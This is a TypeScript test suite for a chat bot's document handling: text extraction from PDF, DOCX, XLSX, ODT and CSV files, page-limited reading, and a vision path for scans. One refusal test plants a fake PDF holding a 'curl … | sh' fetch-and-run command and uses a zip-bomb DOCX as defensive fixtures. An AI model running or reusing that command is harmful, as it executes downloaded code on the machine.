import { expect } from 'chai';
import { readdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { FakeAnthropicGateway } from '../../fakes/anthropic-messages.js';
import type { RecordedRequest } from '../../../app/testing/http-fake.js';
import { tempDir, writeConfig } from '../../helpers/checkout.js';
import { runConsoleChat } from '../../helpers/console-chat.js';
import { docx, jpegOf, odt, scannedPdf, textPdf, xlsx, zipBombDocx } from './samples.js';

/** The system text, the framed content (user-role blocks) and the last user text of one recorded chat-completions request. */
function promptOf(req: RecordedRequest): { system: string; content: string; user: string } {
  const messages = req.json.messages as Array<{ role: string; content: string }>;
  return {
    system: messages.filter((m) => m.role === 'system').map((m) => m.content).join('\n'),
    content: messages.filter((m) => m.role === 'user' && m.content.includes('<<<CONTENT')).map((m) => m.content).join('\n'),
    user: messages.filter((m) => m.role === 'user').pop()?.content ?? '',
  };
}

/**
 * The console transport and app run in this process (`runConsoleChat`, what `npm run chat` runs): what these check is
 * the documents path through the real jail, not the process (its start and exit are test/core/console's).
 */
describe('documents in the console chat (real files through the real jail)', function () {
  this.timeout(120_000);
  let gateway: FakeAnthropicGateway;
  let dir: string;
  const env = () => ({ API_KEY: 'console-key-123', BASE_URL: `${gateway.url}/v1/`, MODEL: 'console-model' });
  /** A 320x240 JPEG (ffmpeg's test picture), made once: the scanned PDFs' page, and the picture named .xlsx. */
  let page: Buffer;

  before(async () => {
    page = await jpegOf(320, 240);
  });

  beforeEach(async () => {
    gateway = await FakeAnthropicGateway.start('gw');
    dir = await tempDir('wabot-documents-');
    await writeConfig(dir);
  });
  afterEach(() => gateway.close());

  it(':document with a question: the text of a PDF, DOCX, XLSX, ODT and CSV reaches the model with the question, and is kept under data/media', async () => {
    await writeFile(path.join(dir, 'invoice.pdf'), textPdf([['Invoice 42', 'Total due: 1,234.56 EUR']]));
    await writeFile(path.join(dir, 'letter.docx'), docx(['Dear Ann,', 'the meeting moves to Thursday 10:00.']));
    await writeFile(path.join(dir, 'sales.xlsx'), xlsx([['item', 'price'], ['mango', 7], ['kiwi', 3]]));
    await writeFile(path.join(dir, 'notes.odt'), odt(['Packing list', 'tent, stove, rope']));
    await writeFile(path.join(dir, 'scores.csv'), 'name,score\nann,91\nbob,78\n');
    const run = await runConsoleChat(
      [':document invoice.pdf what is the total?', ':document letter.docx when is the meeting?', ':document sales.xlsx', ':document notes.odt what do I pack?', ':document scores.csv who won?', ''].join('\n'),
      { cwd: dir, env: env() },
    );
    expect(run.code, run.stderr).to.equal(0);
    const prompts = gateway.chats().map(promptOf);
    expect(prompts, run.stdout).to.have.length(5);
    expect(prompts[0]!.content).to.contain('Total due: 1,234.56 EUR').and.to.contain('invoice.pdf');
    expect(prompts[0]!.user).to.contain('what is the total?');
    // Provenance: a document's text is content in a user-role block, never in the system message.
    for (const [i, text] of ['Total due', 'Thursday 10:00', 'mango', 'tent, stove', 'ann | 91'].entries()) expect(prompts[i]!.system).to.not.contain(text);
    expect(prompts[1]!.content).to.contain('the meeting moves to Thursday 10:00.');
    expect(prompts[2]!.content).to.contain('mango | 7').and.to.contain('kiwi | 3');
    // Without a caption the model is asked for a summary.
    expect(prompts[2]!.user).to.match(/Summarise this document/);
    expect(prompts[3]!.content).to.contain('tent, stove, rope');
    expect(prompts[4]!.content).to.contain('ann | 91');
    expect(run.lines.filter((l) => l.startsWith('bot> gw:'))).to.have.length(5);
    // The bytes are kept under data/media (the 30-day sweep's folder), one file per document.
    expect(await readdir(path.join(dir, 'data', 'media', 'documents', 'files'))).to.have.length(5);
  });

  it('a document sent without a question stays in the chat: a later plain message still has its name and text in the context', async () => {
    await writeFile(path.join(dir, 'trip.odt'), odt(['Trip plan', 'Day 1: Lisbon', 'Day 2: Sintra']));
    const run = await runConsoleChat(':document trip.odt\nwhere do we go on day 2?\n', { cwd: dir, env: env() });
    expect(run.code, run.stderr).to.equal(0);
    const chats = gateway.chats();
    expect(chats, run.stdout).to.have.length(2);
    const later = JSON.stringify(chats[1]!.json.messages);
    expect(promptOf(chats[1]!).system).to.not.contain('Sintra');
    expect(later).to.contain('trip.odt').and.to.contain('Day 2: Sintra');
  });

  it('a long PDF is cut at whole pages and the answer says which pages were read', async () => {
    const page = (n: number) => [`Chapter ${n}`, ...Array.from({ length: 40 }, (_, i) => `line ${i} of chapter ${n} with some words to fill the page`)];
    await writeFile(path.join(dir, 'book.pdf'), textPdf(Array.from({ length: 12 }, (_, i) => page(i + 1))));
    await writeConfig(dir, { plugins: { documents: { maxChars: 6000 } } });
    const run = await runConsoleChat(':document book.pdf what happens?\n', { cwd: dir, env: env() });
    expect(run.code, run.stderr).to.equal(0);
    const { content: system } = promptOf(gateway.chats()[0]!);
    expect(system).to.contain('Chapter 1').and.not.to.contain('Chapter 12');
    const kept = Number(/_\(Only pages 1–(\d+) of 12 were read \(the document is too long\)\.\)_/.exec(run.stdout)?.[1]);
    expect(kept, run.stdout).to.be.within(1, 11);
    expect(system).to.contain(`Chapter ${kept}`).and.not.to.contain(`Chapter ${kept + 1}\n`);
    expect(system).to.contain(`only pages 1–${kept} of 12 were read`);
  });

  it('a script named .pdf, a zip bomb posing as DOCX and a picture named .xlsx are refused in words; nothing reaches the model', async () => {
    await writeFile(path.join(dir, 'report.pdf'), '#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n');
    await writeFile(path.join(dir, 'bomb.docx'), zipBombDocx(200));
    await writeFile(path.join(dir, 'table.xlsx'), page); // the scans' JPEG page: any picture will do, and it is made already
    const run = await runConsoleChat(':document report.pdf summarise\n:document bomb.docx summarise\n:document table.xlsx summarise\n.ping\n', { cwd: dir, env: env() });
    expect(run.code, run.stderr).to.equal(0);
    expect(run.lines[0]).to.match(/^bot> I did not read “report\.pdf”: it claims to be a PDF but it is plain text/);
    expect(run.lines[1]).to.match(/^bot> I did not read “bomb\.docx”: it unpacks to \d+ MB, more than I open/);
    expect(run.lines[2]).to.match(/^bot> I could not read “table\.xlsx”: .*\(it is JPG\)/);
    expect(run.lines[3]).to.match(/^bot> pong/);
    expect(gateway.chats()).to.have.length(0);
  });

  it('a scanned PDF (no text layer) goes to the vision path as page images, at most maxScanPages, and the answer says so', async () => {
    await writeFile(path.join(dir, 'scan.pdf'), scannedPdf(page, 320, 240, 3));
    await writeConfig(dir, { plugins: { documents: { maxScanPages: 2 } } });
    const run = await runConsoleChat(':document scan.pdf what does it say?\n', { cwd: dir, env: env() });
    expect(run.code, run.stderr).to.equal(0);
    const [req] = gateway.messages();
    expect(req, run.stdout).to.not.equal(undefined);
    const content = req!.json.messages[0].content as Array<{ type: string; source?: { media_type: string; data: string }; text?: string }>;
    const images = content.filter((b) => b.type === 'image');
    expect(images).to.have.length(2);
    for (const image of images) expect(Buffer.from(image.source!.data, 'base64').subarray(0, 3).equals(Buffer.from([0xff, 0xd8, 0xff]))).to.equal(true);
    expect(content.find((b) => b.type === 'text')!.text).to.contain('what does it say?');
    expect(run.stdout).to.contain('Only pages 1–2 of 3 were looked at as pictures');
  });

  it('a scanned PDF with vision off (no gateway: only the audio provider answers chats) is refused loudly, not answered blind', async () => {
    await writeFile(path.join(dir, 'scan.pdf'), scannedPdf(page, 320, 240, 1));
    const run = await runConsoleChat(':document scan.pdf what does it say?\n', { cwd: dir, env: { AUDIO_API_KEYS: 'audio-key-123456', AUDIO_BASE_URL: `${gateway.url}/v1` } });
    expect(run.code, run.stderr).to.equal(0);
    expect(run.lines[0]).to.match(/^bot> This PDF is a scan without any text in it, and I cannot look at pictures here/);
    expect(gateway.messages()).to.have.length(0);
    expect(gateway.chats()).to.have.length(0);
  });
});
